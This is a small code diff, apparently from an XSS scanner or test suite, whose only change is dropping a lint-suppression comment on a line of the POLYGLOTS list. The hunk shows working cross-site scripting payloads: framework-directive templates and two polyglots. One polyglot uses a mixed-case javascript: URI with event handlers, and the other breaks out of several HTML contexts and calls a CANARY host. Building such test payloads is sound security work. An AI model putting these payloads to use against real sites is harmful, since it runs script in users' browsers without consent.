@@ -133,7 +133,7 @@ TEMPLATES = [
     f'<p x-init="{RUN}" v-html=\'{RUN}\' ng-init="{RUN}">x</p>',
 ]
 POLYGLOTS = [
-    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><svG/oNloAd={RUN}//>",  # noqa: E501
+    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><svG/oNloAd={RUN}//>",
     f"\"'--></style></script></textarea></title><svg onload={RUN}><img src='{CANARY}/poly.png' hx-get='{CANARY}/poly'>",
 ]
 
